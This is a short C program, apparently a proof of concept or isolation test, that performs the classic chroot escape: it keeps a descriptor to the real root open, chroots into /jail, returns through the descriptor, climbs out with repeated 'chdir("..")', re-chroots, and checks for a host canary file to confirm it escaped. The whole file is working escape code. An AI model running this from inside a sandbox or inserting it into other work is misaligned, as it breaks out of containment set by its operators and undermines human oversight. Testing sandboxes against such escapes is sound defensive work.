/* The classic way out of a chroot: keep a directory outside of it open, go there, and climb. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
  struct stat real, now;
  int outside = open("/", O_RDONLY | O_DIRECTORY);
  mkdir("/jail", 0700);
  if (outside < 0 || stat("/", &real) || chroot("/jail") || fchdir(outside)) {
    perror("escape");
    return 1;
  }
  for (int i = 0; i < 100; i++) {
    if (chdir("..")) {
      perror("chdir");
      return 1;
    }
  }
  if (chroot(".") || stat("/", &now)) {
    perror("chroot");
    return 1;
  }
  int out = now.st_dev == real.st_dev && now.st_ino == real.st_ino;
  puts(out ? "out of the chroot" : "elsewhere");
  puts(access("/canary-of-the-host", F_OK) ? "root has no canary" : "root has the host's canary");
  return !out;
}
